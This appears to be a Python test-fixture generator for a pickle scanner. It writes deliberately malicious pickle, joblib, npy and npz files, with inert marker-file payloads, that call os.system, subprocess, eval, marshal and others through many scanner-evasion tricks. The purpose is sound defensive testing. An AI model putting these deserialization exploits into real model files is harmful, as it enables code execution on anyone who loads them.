# SPDX-License-Identifier: GPL-3.0-or-later
"""Writes the hostile fixtures: make_hostile.py [--out FOLDER] [--big FOLDER].

Every payload is inert: at most it creates the empty file that STRATA_MARKER names, or `strata-marker` in the current
folder. `manifest.json` tells of each file:

  case         what it tries
  trust        the trust that `strata scan` must give; `trust_at_least` where a worse one is right too; neither where the
               file's own trust is not the point
  integrity    the integrity it must give, or a list of those that are right
  error        error codes that are right instead of a verdict, since a reader may refuse the whole file
  format       the format's id that it must be read as
  loads        true: the loader must accept the file
  loader       what a person would open it with: pickle (pickle.load), pickle-bytes (pickle.loads), pickle-all (each pickle
               of the file in turn), pickle-python (the loader written in Python), joblib, numpy, safetensors; null where running it would exhaust the machine
  refused      safetensors only: whether the reference implementation refuses the file
  fires        whether that loader runs the payload (tests/interop/check_hostile_fires.py shows it)
  environment  the environment whose loader is meant (default: newest)

--big writes the files that are too large to keep, with a manifest of their own.
"""
from __future__ import annotations

import argparse
import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import pickle
import struct
import types
import warnings
import zipfile
import zlib
from pathlib import Path
from typing import Any

import cloudpickle
import joblib
import numpy as np
from sklearn.ensemble import RandomForestClassifier

import expectation
import opcodes as op

COMMAND = 'touch "$STRATA_MARKER"'
CODE = "import os; open(os.environ['STRATA_MARKER'], 'w').close()"
RELATIVE = "strata-marker"
CANARY = "/strata-canary/never-opened"

Case = dict[str, Any]
CASES: dict[str, tuple[bytes, Case]] = {}


def add(name: str, data: bytes, case: str, loader: str | None = "pickle", fires: bool = False, **expected: Any) -> None:
    """Registers one file; without `trust`, `trust_at_least` or `error` it must be called dangerous and complete."""
    if not {"trust", "trust_at_least", "error", "integrity"} & set(expected):
        expected = {"trust": "dangerous", **expected}
    if "integrity" not in expected and "error" not in expected:
        expected["integrity"] = "complete"
    assert name not in CASES, name
    CASES[name] = (data, {"case": case, **expected, "loader": loader, "fires": fires})


class Payload:
    """Pickles as a call of os.system with the marker's command."""

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        import os
        return os.system, (COMMAND,)


def call(module: str, name: str, *arguments: bytes) -> bytes:
    """GLOBAL, a tuple of arguments, REDUCE."""
    return op.glob(module, name) + op.MARK + b"".join(arguments) + op.TUPLE + op.REDUCE


def evil() -> bytes:
    """The control payload without PROTO or STOP."""
    return call("os", "system", op.unicode4(COMMAND))


# --- the pickle machine ---------------------------------------------------------------------------------------------

def add_controls() -> None:
    """The plain attack at every protocol and through each opcode that calls."""
    add("control_p0.pkl", b"cos\nsystem\n(" + op.unicode0(COMMAND) + b"tR.", "control, protocol 0", fires=True)
    for version in (2, 4, 5):
        names = op.glob("posix", "system") if version == 2 else op.stack_global("posix", "system")
        body = names + op.unicode4(COMMAND) + op.TUPLE1 + op.REDUCE + op.STOP
        add(f"control_p{version}.pkl", op.proto(version) + (op.frame(body) if version > 3 else body),
            f"control, protocol {version}", fires=True)
    add("control_nt.pkl", call("nt", "system", op.unicode4(COMMAND)) + op.STOP, "control, Windows' module name")
    add("reduce_python.pkl", pickle.dumps({"weights": [1.0], "x": Payload()}), "control, written by pickle", fires=True)
    text = op.string0(COMMAND)
    add("inst.pkl", op.MARK + text + op.inst("os", "system") + op.STOP, "INST", fires=True)
    add("obj.pkl", op.MARK + op.glob("os", "system") + text + op.OBJ + op.STOP, "OBJ", fires=True)
    add("obj_hidden.pkl", op.MARK + op.glob("os", "system") + text + op.OBJ + op.POP + op.NONE + op.STOP,
        "called, then hidden by POP", fires=True)
    add("newobj.pkl", op.proto(2) + op.glob("subprocess", "Popen") + op.MARK + text + op.TUPLE + op.NEWOBJ + op.STOP, "NEWOBJ")
    add("newobj_ex.pkl", op.proto(4) + op.glob("subprocess", "Popen") + op.MARK + text + op.TUPLE + op.EMPTY_DICT
        + op.NEWOBJ_EX + op.STOP, "NEWOBJ_EX")
    add("global_only.pkl", op.glob("os", "system") + op.STOP, "imported, not called")
    add("truncated.pkl", op.proto(2) + evil(), "cut after REDUCE", fires=True, trust="dangerous", integrity="incomplete")
    add("bad_opcode.pkl", op.proto(2) + evil() + b"\xff.", "unknown opcode after REDUCE", fires=True, trust="dangerous",
        integrity="incomplete")
    add("no_stop.pkl", evil() + op.POP + op.NONE, "no STOP", fires=True, trust="dangerous", integrity="incomplete")
    add("build_setstate.pkl", op.proto(2) + call("builtins", "eval", op.unicode4("type('S', (), {'__setstate__': "
        "lambda self, state: __import__('os').system(state)})()")) + op.unicode4(COMMAND) + op.BUILD + op.STOP,
        "BUILD on what eval made", fires=True)


def add_memo() -> None:
    """Names that reach STACK_GLOBAL by way of the memo."""
    decoys = op.short("decoy") + op.POP + op.short("json") + op.POP
    run = op.short(COMMAND) + op.TUPLE1 + op.REDUCE + op.STOP
    add("memo_operands.pkl", op.proto(4) + op.short("os") + op.put(5) + op.POP + op.short("system") + op.put(9) + op.POP
        + decoys + op.get(5) + op.get(9) + op.STACK_GLOBAL + run, "module and name from the memo", fires=True)
    add("memo_overwrite.pkl", op.proto(4) + op.short("json") + op.put(0) + op.POP + op.short("os") + op.put(0) + op.POP
        + op.get(0) + op.short("system") + op.STACK_GLOBAL + run, "memo overwritten", fires=True)
    add("memo_memoize_index.pkl", op.proto(4) + op.short("x") + op.binput(7) + op.POP + op.short("os") + op.MEMOIZE + op.POP
        + op.binget(1) + op.short("system") + op.STACK_GLOBAL + run, "MEMOIZE counts filled slots", fires=True)
    add("memo_missing.pkl", op.proto(4) + op.binget(3) + op.short("system") + op.STACK_GLOBAL + run, "memo slot never set",
        integrity="incomplete")
    add("memo_integer.pkl", op.proto(4) + op.binint1(42) + op.put(0) + op.POP + op.get(0) + op.short("system")
        + op.STACK_GLOBAL + run, "module name is an int", trust_at_least="review", integrity=["complete", "incomplete"])
    add("memo_huge_text.pkl", op.binint1(1) + b"p123456789012345678901234567890\n" + op.POP + evil() + op.STOP,
        "decimal PUT over 64 bits", loader="pickle-python", fires=True)


def add_names() -> None:
    """Names written so that a reader of opcodes misses them."""
    run = op.short(COMMAND) + op.TUPLE1 + op.REDUCE + op.STOP
    add("stack_global_first.pkl", op.string0("os") + op.string0("system") + op.STACK_GLOBAL + op.string0(COMMAND) + op.TUPLE1
        + op.REDUCE + op.STOP, "STACK_GLOBAL on STRING operands, no PROTO", fires=True)
    add("stack_global_short_binstring.pkl", op.short_string(b"os") + op.short_string(b"system") + op.STACK_GLOBAL + run,
        "STACK_GLOBAL on SHORT_BINSTRING operands", fires=True)
    add("stack_global_computed.pkl", op.proto(4) + op.short("os") + call("builtins", "str", op.short("system"))
        + op.STACK_GLOBAL + run, "name is the result of a call", fires=True)
    add("names_8_bytes.pkl", op.proto(4) + op.unicode8("os") + op.unicode8("system") + op.STACK_GLOBAL + run,
        "8-byte strings", fires=True)
    add("dotted.pkl", op.proto(4) + op.stack_global("pathlib", "os.system") + run, "dotted name", fires=True)
    add("dotted_global.pkl", op.proto(4) + op.glob("pathlib", "os.system") + run, "dotted name by GLOBAL at protocol 4", fires=True)
    add("submodule.pkl", op.proto(4) + op.stack_global("asyncio.unix_events", "subprocess.getoutput") + run,
        "dangerous module through a submodule", fires=True)
    add("protocol_flip.pkl", op.proto(2) + op.NONE + op.POP + op.proto(4) + op.glob("pathlib", "os.system") + run,
        "PROTO 4 in mid-stream", fires=True)
    add("renamed_commands.pkl", op.proto(2) + call("commands", "getoutput", op.unicode4(COMMAND)) + op.STOP,
        "Python 2 name of subprocess", fires=True)
    add("renamed_urllib2.pkl", op.proto(2) + call("urllib2", "urlopen", op.unicode4("file:///dev/null")) + op.STOP,
        "Python 2 name of urllib.request")
    imported = call("__builtin__", "__import__", op.unicode4("os"))
    found = call("__builtin__", "reduce", op.glob("__builtin__", "getattr"), op.MARK + op.unicode4("system") + op.TUPLE, imported)
    add("renamed_reduce.pkl", op.proto(2) + found + op.unicode4(COMMAND) + op.TUPLE1 + op.REDUCE + op.STOP,
        "Python 2 name of functools.reduce", fires=True)
    add("int_hexadecimal.pkl", op.int0("0x1f") + op.POP + evil() + op.STOP, "INT that only C reads", fires=True)
    add("import_getattr.pkl", call("builtins", "getattr", call("builtins", "__import__", op.unicode4("os")),
        op.unicode4("system")) + op.unicode4(COMMAND) + op.TUPLE1 + op.REDUCE + op.STOP, "__import__ and getattr", fires=True)


def add_callables() -> None:
    """Roads to code that a short list of names does not hold."""
    text, code = op.unicode4(COMMAND), op.unicode4(CODE)
    again = text + op.TUPLE1 + op.REDUCE + op.STOP
    add("pkgutil.pkl", call("pkgutil", "resolve_name", op.unicode4("os:system")) + again, "pkgutil.resolve_name", fires=True)
    add("pydoc.pkl", call("pydoc", "locate", op.unicode4("os.system")) + again, "pydoc.locate", fires=True)
    importing = call("importlib", "import_module", op.unicode4("os"))
    add("methodcaller.pkl", call("operator", "methodcaller", op.unicode4("system"), text) + op.MARK + importing + op.TUPLE
        + op.REDUCE + op.STOP, "operator.methodcaller", fires=True)
    add("attrgetter.pkl", call("_operator", "attrgetter", op.unicode4("system")) + op.MARK + importing + op.TUPLE + op.REDUCE
        + again, "attrgetter under its private name", fires=True)
    calls = {
        "eval": ("builtins", "eval", (op.unicode4("exec(%r)" % CODE),)), "exec": ("builtins", "exec", (code,)),
        "osx_support": ("_osx_support", "_read_output", (text,)), "imaplib": ("imaplib", "IMAP4_stream", (text,)),
        "cprofile": ("cProfile", "runctx", (code, op.EMPTY_DICT, op.EMPTY_DICT)), "profile": ("profile", "run", (code,)),
        "timeit": ("timeit", "timeit", (code, op.unicode4("pass"), op.glob("time", "perf_counter"), op.binint1(1))),
        "runpy": ("runpy", "_run_code", (code, op.EMPTY_DICT)), "subprocess": ("subprocess", "getoutput", (text,)),
        "pty": ("pty", "spawn", (op.MARK + op.unicode4("touch") + op.unicode4(RELATIVE) + op.LIST,)),
        "bdb": ("bdb", "Bdb.run", None), "codeop": ("code", "InteractiveInterpreter.runcode", None),
        "logging": ("logging", "FileHandler", (op.unicode4(RELATIVE),)),
        "file_io": ("_io", "FileIO", (op.unicode4(RELATIVE), op.unicode4("w"))),
        "open": ("builtins", "open", (op.unicode4(RELATIVE), op.unicode4("w"))),
        "sqlite": ("sqlite3", "connect", (op.unicode4(RELATIVE),)),
    }
    for name, (module, function, arguments) in calls.items():
        if arguments is not None:
            add(f"call_{name}.pkl", call(module, function, *arguments) + op.STOP, f"{module}.{function}", fires=True)
    add("read_file.pkl", call("_io", "FileIO", op.unicode4(CANARY)) + op.STOP, "reads a file of its choosing")
    add("read_numpy.pkl", call("numpy", "fromfile", op.unicode4(CANARY)) + op.STOP, "numpy reads a file",
        trust_at_least="review")
    add("network.pkl", call("urllib.request", "urlopen", op.unicode4("http://127.0.0.1:9/")) + op.STOP, "network")
    add("uuid_command.pkl", call("uuid", "_get_command_stdout", op.unicode4("true")) + op.STOP, "uuid runs a command",
        trust_at_least="review")
    add("pip_main.pkl", call("pip", "main", op.MARK + op.unicode4("--version") + op.LIST) + op.STOP, "pip.main")
    add("pip_internal.pkl", call("pip._internal.cli.main", "main", op.MARK + op.unicode4("--version") + op.LIST) + op.STOP,
        "pip._internal")
    add("logger_state.pkl", op.glob("logging", "getLogger") + op.EMPTY_TUPLE + op.REDUCE + op.EMPTY_DICT + op.unicode4("disabled")
        + op.NEWTRUE + op.SETITEM + op.BUILD + op.STOP, "state of the logger that all share")
    for module in ("xgboost.core", "lightgbm.basic"):
        add(f"booster_{module.split('.')[0]}.pkl", call(module, "Booster", op.NONE, op.EMPTY_TUPLE, op.unicode4(CANARY)) + op.STOP,
            f"{module}.Booster reads a file of its choosing", loader=None)
    add("dill_array.pkl", call("dill._dill", "_create_array", op.glob("os", "system"), op.MARK + text + op.TUPLE, op.NONE, op.NONE)
        + op.STOP, "dill's maker of arrays calls a command", loader=None)
    add("zone_file.pkl", call("builtins", "getattr", op.glob("zoneinfo", "ZoneInfo"), op.unicode4("from_file")) + op.MARK
        + call("_io", "FileIO", op.unicode4(CANARY)) + op.TUPLE + op.REDUCE + op.STOP, "a time zone from a file of its choosing")
    add("unknown_name.pkl", call("some_company.models", "load") + op.STOP, "a name on nobody's list", trust="review",
        integrity="complete")
    add("bound_method.pkl", call("builtins", "getattr", op.glob("collections", "OrderedDict") + op.EMPTY_TUPLE + op.REDUCE,
        op.unicode4("keys")) + op.EMPTY_TUPLE + op.REDUCE + op.STOP, "bound method of a constructed object", trust="review",
        integrity="complete")


def add_code() -> None:
    """Code objects, by hand and by cloudpickle."""
    code = compile(CODE, "payload", "exec")
    make = op.glob("types", "FunctionType") + op.MARK + call("marshal", "loads", op.bytes4(marshal.dumps(code)))
    add("marshal.pkl", op.proto(3) + make + op.EMPTY_DICT + op.TUPLE + op.REDUCE + op.EMPTY_TUPLE + op.REDUCE + op.STOP,
        "marshal.loads and FunctionType", fires=True)
    parts = [getattr(code, f"co_{name}") for name in (
        "argcount posonlyargcount kwonlyargcount nlocals stacksize flags code consts names varnames filename name "
        "qualname firstlineno linetable exceptiontable freevars cellvars").split()]
    arguments = pickle.dumps(tuple(parts), 3)[2:-1]
    built = op.glob("types", "CodeType") + arguments + op.REDUCE
    add("code_type.pkl", op.proto(3) + op.glob("types", "FunctionType") + op.MARK + built + op.EMPTY_DICT + op.TUPLE
        + op.REDUCE + op.EMPTY_TUPLE + op.REDUCE + op.STOP, "types.CodeType", fires=True)
    function = types.FunctionType(code, {"__builtins__": __builtins__}, "payload")
    add("cloudpickle.pkl", cloudpickle.dumps(function), "a function by cloudpickle, not called")
    body = cloudpickle.dumps(function, protocol=2)
    add("cloudpickle_called.pkl", body[:-1] + op.EMPTY_TUPLE + op.REDUCE + op.STOP, "a function by cloudpickle, called",
        fires=True)
    add("dill_function.pkl", call("dill._dill", "_create_function", call("dill._dill", "_create_code", op.binint1(0)),
        op.EMPTY_DICT) + op.STOP, "a function by dill")


def add_nested() -> None:
    """Pickles inside pickles."""
    inner = op.proto(2) + evil() + op.STOP
    for module in ("pickle", "_pickle"):
        add(f"nested_{module.strip('_')}{'_c' if module[0] == '_' else ''}.pkl",
            op.proto(3) + call(module, "loads", op.bytes4(inner)) + op.STOP, f"{module}.loads", fires=True)
    add("nested_torch.pkl", op.proto(3) + call("torch.storage", "_load_from_bytes", op.bytes4(inner)) + op.STOP,
        "torch.storage._load_from_bytes", loader=None)
    add("nested_joblib.pkl", call("joblib", "load", op.unicode4(CANARY)) + op.STOP, "joblib.load of a path")
    for name, data in (("bytes", pickle.dumps({"blob": inner}, 4)),
                       ("base64", pickle.dumps({"blob": base64.b64encode(inner).decode()}, 4)),
                       ("hex", pickle.dumps({"blob": inner.hex()}, 4)),
                       ("bytearray", pickle.dumps({"blob": bytearray(inner)}, 5))):
        trust = {"trust_at_least": "review"} if name.startswith("byte") else {"trust_at_least": "trusted"}
        add(f"nested_in_{name}.pkl", data, f"a pickle inside {name}, never loaded by the outer one", **trust)


def add_nested_compressed() -> None:
    """Pickles inside compressed bytes: a wrapper of somebody's would unpack and load them."""
    inner = op.proto(2) + evil() + op.STOP
    packed = {"gzip": gzip.compress(inner, mtime=0), "zlib": zlib.compress(inner), "bz2": bz2.compress(inner),
              "xz": lzma.compress(inner), "zlib_twice": zlib.compress(zlib.compress(inner)),
              "base64_zlib": base64.b64encode(zlib.compress(inner)).decode(),
              "base64_gzip": base64.b64encode(gzip.compress(inner, mtime=0)).decode()}
    for name, blob in packed.items():
        add(f"nested_in_{name}.pkl", pickle.dumps({"blob": blob}, 4), f"a pickle inside {name}, never loaded by the outer one",
            trust_at_least="review")


def add_poisoning() -> None:
    """Attributes set on what was imported, then used."""
    poison = op.MARK + op.NONE + op.EMPTY_DICT + op.unicode4("shape") + op.glob("numpy", "__builtins__") + op.SETITEM + op.TUPLE
    evaluate = op.glob("numpy", "size") + poison + op.BUILD + op.POP + call("numpy", "size", op.glob("numpy", "size"),
                                                                           op.unicode4("eval"))
    add("poisoned_attribute.pkl", op.proto(2) + evaluate + op.unicode4("exec(%r)" % CODE) + op.TUPLE1 + op.REDUCE + op.STOP,
        "numpy.size given a shape that is __builtins__", fires=True, environment="sklearn-1.1", trust_at_least="review")
    named = op.MARK + op.NONE + op.EMPTY_DICT + op.short("a") + op.short("os") + op.SETITEM + op.TUPLE
    add("poisoned_string.pkl", op.proto(4) + op.glob("numpy", "prod") + named + op.BUILD + op.POP
        + op.glob("numpy", "prod.a") + op.short("system") + op.STACK_GLOBAL + op.short(COMMAND) + op.TUPLE1 + op.REDUCE
        + op.STOP, "module name read from a poisoned attribute", fires=True, environment="sklearn-1.1",
        trust_at_least="review", integrity=["complete", "incomplete"])


def add_unresolved() -> None:
    """What only the loading program can resolve."""
    for code in (7, 300, 70000):
        add(f"extension_{code}.pkl", op.proto(2) + op.ext(code) + op.unicode4(COMMAND) + op.TUPLE1 + op.REDUCE + op.STOP,
            "EXT called", trust_at_least="review")
    add("persid_hostile.pkl", op.persid("../../strata-canary/never-opened") + op.STOP, "PERSID that looks like a path",
        trust_at_least="review")
    add("persid_module.pkl", op.proto(2) + op.MARK + op.unicode4("module") + op.glob("os", "system")
        + op.unicode4("x.py") + op.unicode4("source") + op.TUPLE + op.BINPERSID + op.STOP, "torch's module tuple")


def add_frames() -> None:
    """Frames that lie about their length."""
    body = op.stack_global("os", "system") + op.short(COMMAND) + op.TUPLE1 + op.REDUCE + op.STOP
    either = ["complete", "ambiguous"]
    add("frame_straddling.pkl", op.proto(4) + op.frame(body, 3), "an opcode straddles the frame's end", loader="pickle-bytes",
        fires=True, trust="dangerous", integrity=either)
    add("frame_nested.pkl", op.proto(4) + op.frame(op.frame(body)), "a frame in a frame", fires=True, trust="dangerous",
        integrity=either)
    add("frame_past_the_end.pkl", op.proto(4) + body[:-1] + op.POP + op.frame(op.NONE + op.STOP, 1000),
        "a frame longer than the file", fires=True, trust="dangerous", integrity=["ambiguous", "incomplete"])


def add_streams() -> None:
    """Several pickles in a file, and files that are no plain pickle."""
    benign, bad = pickle.dumps({"a": 1}, 4), op.proto(2) + evil() + op.STOP
    add("second_pickle.pkl", benign + bad, "benign, then evil", loader="pickle-all", fires=True, trust="dangerous",
        integrity=["complete", "ambiguous"])
    add("junk_between.pkl", benign + b"\x00\xff junk " + bad, "benign, junk, evil", trust_at_least="review",
        integrity="ambiguous")
    add("after_zeros.pkl", benign + b"\0" * 64 + bad, "benign, zeros, evil", trust_at_least="review", integrity="ambiguous")
    magic = call("builtins", "eval", op.unicode4("[exec(%r), 0x1950a86a20f9469cfc6c][1]" % CODE)) + op.STOP
    rest = pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    add("torch_magic.pt", op.proto(2) + magic + rest + benign, "eval returns torch's magic number", fires=True,
        trust="dangerous", integrity=["complete", "ambiguous"])
    legacy = b"".join(pickle.dumps(value, 2) for value in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}, {}))
    add("torch_fifth.pkl", legacy + bad, "the fifth pickle is evil", loader="pickle-all", fires=True, trust="dangerous",
        integrity=["complete", "ambiguous", "incomplete"])
    for extension in ("bin", "txt", "png"):
        add(f"wrong_extension.{extension}", bad, f"a pickle named .{extension}", fires=True)
    add("starts_like_bzip2.pkl", b"B" + struct.pack("<I", 0x5A) + b"a" * 90 + op.POP + evil() + op.STOP,
        "a raw pickle that starts with BZ", fires=True)
    add("starts_like_zlib.pkl", b"x\x9c" + op.proto(2) + evil() + op.STOP, "zlib's first bytes, then a pickle", loader=None,
        error=["malformed", "truncated", "unknown_content"], integrity=["incomplete", "ambiguous"])


# --- joblib, npy, npz -----------------------------------------------------------------------------------------------

def dumped(value: Any, compress: Any = 0, protocol: int | None = None) -> bytes:
    """What joblib.dump writes."""
    buffer = io.BytesIO()
    joblib.dump(value, buffer, compress=compress, protocol=protocol)
    return buffer.getvalue()


def add_joblib() -> None:
    """Payloads around and inside joblib's arrays, under each compressor, and arrays that lie."""
    array = np.arange(12, dtype=np.float32)
    after = {"array": array, "later": Payload()}
    add("joblib_after_array.joblib", dumped(after), "payload after an array", loader="joblib", fires=True)
    add("joblib_object_array.joblib", dumped({"o": np.array([1, Payload()], object)}), "payload in an object array",
        loader="joblib", fires=True)
    for name in ("zlib", "gzip", "bz2", "lzma", "xz", "lz4"):
        add(f"joblib_{name}.joblib", dumped(after, (name, 3)), f"payload under {name}", loader="joblib", fires=True)
    good = dumped({"array": array, "end": 1})
    add("joblib_trailing.joblib", good + b"trailing", "bytes after STOP", loader="joblib", trust="trusted", integrity="ambiguous")
    add("joblib_trailing_pickle.joblib", good + op.proto(2) + evil() + op.STOP, "a second pickle after STOP", loader="joblib",
        trust="dangerous", integrity=["complete", "ambiguous"])
    raw = array.tobytes()
    start = good.index(raw)
    padding = next(start - 1 - count for count in range(1, 17) if good[start - 1 - count] == count)
    for count in (0, 255):
        changed = good[:padding] + bytes([count]) + b"\xff" * count + good[start:]
        add(f"joblib_padding_{count}.joblib", changed, f"alignment padding of {count}", loader="joblib", trust="trusted",
            integrity="complete", loads=True)
    add("joblib_cut_in_array.joblib", good[:start + 10], "cut inside an array", loader="joblib", trust="trusted",
        integrity="incomplete")
    add("joblib_lying_shape.joblib", good.replace(b"K\x0c\x85", b"K\x0d\x85"), "shape larger than the data", loader="joblib",
        integrity=["incomplete", "ambiguous"], error=["malformed", "truncated"])
    add("joblib_lying_dtype.joblib", good.replace(b"\x8c\x02f4", b"\x8c\x02f8"), "dtype larger than the data", loader="joblib",
        integrity=["incomplete", "ambiguous"], error=["malformed", "truncated"])
    add("joblib_unknown_dtype.joblib", good.replace(b"\x8c\x02f4", b"\x8c\x02q9"), "dtype that numpy does not know",
        loader="joblib", integrity=["incomplete", "ambiguous"], error=["malformed", "truncated"])
    for name, path in (("parent", "../strata-canary.npy"), ("absolute", CANARY + ".npy")):
        wrapper = (op.glob("joblib.numpy_pickle_compat", "NDArrayWrapper") + op.EMPTY_TUPLE + op.NEWOBJ + op.EMPTY_DICT + op.MARK
                   + op.unicode4("filename") + op.unicode4(path) + op.unicode4("subclass") + op.glob("numpy", "ndarray")
                   + op.unicode4("allow_mmap") + op.NEWTRUE + op.SETITEMS + op.BUILD)
        add(f"joblib_wrapper_{name}.pkl", op.proto(2) + wrapper + op.STOP, f"NDArrayWrapper naming {path}", loader="joblib",
            trust_at_least="review", integrity=["complete", "incomplete"])
    add("joblib_two_readings.pkl", two_readings(), "an array for joblib, opcodes for pickle", fires=True, trust="dangerous",
        integrity="ambiguous")
    zfile = b"ZF" + b"0xffffffffffff".ljust(19) + zlib.compress(op.proto(2) + evil() + op.STOP)
    add("joblib_zf.pkl", zfile, "ZF whose length lies", loader=None, trust_at_least="trusted",
        integrity=["complete", "incomplete", "ambiguous"], error=["malformed", "truncated", "limit_exceeded"])
    add("joblib_half_compressed.joblib", dumped(after, ("zlib", 3))[:-40], "compressed and cut", loader="joblib",
        integrity=["incomplete"], error=["malformed", "truncated"])


def two_readings() -> bytes:
    """A joblib array without alignment padding whose bytes go on as a plain pickle."""
    raw = op.POP + evil() + op.STOP
    state = (op.unicode4("subclass") + op.glob("numpy", "ndarray") + op.unicode4("shape") + op.binint1(len(raw)) + op.TUPLE1
             + op.unicode4("order") + op.unicode4("C") + op.unicode4("dtype") + pickle.dumps(np.dtype("u1"), 2)[2:-1]
             + op.unicode4("allow_mmap") + op.NEWTRUE)
    wrapper = op.glob("joblib.numpy_pickle", "NumpyArrayWrapper") + op.EMPTY_TUPLE + op.NEWOBJ
    return op.proto(2) + wrapper + op.EMPTY_DICT + op.MARK + state + op.SETITEMS + op.BUILD + raw + op.STOP


def npy(header: bytes | str, data: bytes = b"", version: int = 1, length: int | None = None) -> bytes:
    """An .npy from a raw header; `length` lies about it."""
    text = header.encode("latin-1") if isinstance(header, str) else header
    size = len(text) if length is None else length
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<H" if version == 1 else "<I", size) + text + data


def object_npy() -> bytes:
    """An object array whose pickle holds the payload."""
    buffer = io.BytesIO()
    np.save(buffer, np.array([1, Payload()], object), allow_pickle=True)
    return buffer.getvalue()


def header(descr: str = "'<f4'", order: str = "False", shape: str = "(3,)") -> str:
    """An .npy header as numpy writes it."""
    return "{'descr': %s, 'fortran_order': %s, 'shape': %s, }\n" % (descr, order, shape)


def add_npy() -> None:
    """Objects with a payload, and headers that lie."""
    add("objects.npy", object_npy(), "object array with a payload", loader="numpy", fires=True)
    data = bytes(12)
    malformed = {
        "code": npy("{'descr': __import__('os').system('true'), 'fortran_order': False, 'shape': (3,), }\n", data),
        "not_a_dict": npy("[1, 2, 3]\n", data), "empty_header": npy("", data), "not_text": npy(b"\xff\xfe\x00\x01", data),
        "negative_shape": npy(header(shape="(-3,)"), data), "huge_number": npy(header(shape="(%s,)" % ("9" * 400)), data),
        "shape_not_a_tuple": npy(header(shape="'3'"), data), "order_not_a_bool": npy(header(order="'yes'"), data),
        "unknown_dtype": npy(header(descr="'<q9'"), data), "missing_key": npy("{'descr': '<f4', 'shape': (3,), }\n", data),
        "deep_header": npy("(" * 20000 + ")" * 5000, data), "deep_dtype": npy(header(descr="[('a', " * 3000 + "'<f4'" + ")]" * 3000), data),
        "unterminated": npy("{'descr': '<f4", data), "version_9": npy(header(), data, version=9),
        "shape_overflow": npy(header(shape="(4294967296, 4294967296, 4294967296)"), data),
        "many_axes": npy(header(shape="(" + "1," * 100 + ")"), bytes(4)),
    }
    for name, content in malformed.items():
        add(f"npy_{name}.npy", content, f"header: {name.replace('_', ' ')}", loader="numpy",
            error=["malformed", "unsupported_feature", "limit_exceeded", "truncated"], integrity=["incomplete"])
    cut = {"huge_header_length": npy(header(), data, version=2, length=2**32 - 1),
           "shape_past_the_end": npy(header(shape="(1000000,)"), data), "no_header": b"\x93NUMPY\x01\x00",
           "only_magic": b"\x93NUMPY", "no_data": npy(header())}
    for name, content in cut.items():
        add(f"npy_{name}.npy", content, f"too short: {name.replace('_', ' ')}", loader="numpy",
            error=["malformed", "truncated", "limit_exceeded"], integrity=["incomplete"])
    add("npy_trailing.npy", npy(header(), data + b"more"), "bytes after the array", loader="numpy", trust=None,
        integrity=["complete", "ambiguous"])
    add("npy_duplicate_keys.npy", npy("{'descr': '<f4', 'descr': '<f8', 'fortran_order': False, 'shape': (3,), }\n", bytes(24)),
        "the same key twice", loader="numpy", error=["malformed"], integrity=["complete", "ambiguous"])


def npz(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    """A zip of raw members, the same name twice if asked."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # a name given twice is what we want
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data, method)
    return buffer.getvalue()


def patch(data: bytes, at: int, new: bytes) -> bytes:
    """Bytes replaced in place."""
    return data[:at] + new + data[at + len(new):]


def add_npz() -> None:
    """Payloads in members, and directories that lie."""
    array = npy(header(), struct.pack("<3f", 1, 2, 3))
    good = npz([("a.npy", array)])
    central, end = good.index(b"PK\x01\x02"), good.index(b"PK\x05\x06")
    add("objects.npz", npz([("plain.npy", array), ("o.npy", object_npy())]), "object member with a payload", loader="numpy", fires=True)
    add("objects_deflated.npz", npz([("o.npy", object_npy())], zipfile.ZIP_DEFLATED), "the same, deflated", loader="numpy", fires=True)
    add("pickle_member.npz", npz([("a.npy", array), ("data.pkl", op.proto(2) + evil() + op.STOP)]),
        "a pickle beside the arrays", loader="numpy", trust_at_least="review")
    add("wrong_extension_zip.pkl", npz([("o.npy", object_npy())]), "an npz named .pkl", loader="numpy", fires=True,
        trust="dangerous", integrity=["complete", "ambiguous"], format="npz")
    lying = ["ambiguous", "incomplete"]
    bad = ["malformed", "truncated", "unsupported_feature", "limit_exceeded", "unknown_content"]
    changed = {
        "bad_crc": (patch(good, good.index(struct.pack("<3f", 1, 2, 3)), b"\xff"), ["complete", *lying]),
        "local_name": (patch(good, 30, b"b"), lying), "flag_bits": (patch(good, central + 8, b"\x01\x00"), lying),
        "method_99": (patch(patch(good, central + 10, b"\x63\x00"), 8, b"\x63\x00"), lying),
        "offset_past_the_end": (patch(good, central + 42, struct.pack("<I", 0x7FFFFFFF)), lying),
        "size_past_the_end": (patch(patch(good, central + 20, struct.pack("<II", 0x7FFFFFF0, 0x7FFFFFF0)), 18,
                                    struct.pack("<II", 0x7FFFFFF0, 0x7FFFFFF0)), lying),
        "directory_past_the_end": (patch(good, end + 16, struct.pack("<I", 0x7FFFFFFF)), lying),
        "entry_count": (patch(good, end + 8, struct.pack("<HH", 500, 500)), lying),
        "cut": (good[:-10], lying), "no_directory": (good[:central], lying), "junk_before": (b"junk" * 8 + good, ["complete", *lying]),
        "duplicate_member": (npz([("a.npy", array), ("a.npy", array)]), lying),
        "parent_name": (npz([("../../strata-canary.npy", array)]), ["complete", *lying]),
        "absolute_name": (npz([(CANARY + ".npy", array)]), ["complete", *lying]),
        "nul_name": (npz([("aXb.npy", array)]).replace(b"aXb.npy", b"a\x00b.npy"), ["complete", *lying]),
        "overlapping": (overlapping(array), lying),
    }
    for name, (data, integrity) in changed.items():
        add(f"npz_{name}.npz", data, f"zip: {name.replace('_', ' ')}", loader="numpy", trust_at_least="trusted",
            integrity=integrity, error=bad)
    bomb = npy(header(descr="'|u1'", shape="(33554432,)"), bytes(1 << 25))
    add("npz_bomb.npz", npz([(f"b{index}.npy", bomb) for index in range(2)], zipfile.ZIP_DEFLATED), "32 MB of zeros, twice",
        loader=None, trust_at_least="trusted", integrity=["complete", *lying], error=bad)


def overlapping(array: bytes) -> bytes:
    """A zip whose two members share their bytes."""
    data = npz([("a.npy", array), ("b.npy", array)])
    second = data.index(b"PK\x01\x02", data.index(b"PK\x01\x02") + 4)
    return patch(data, second + 42, struct.pack("<I", 0))


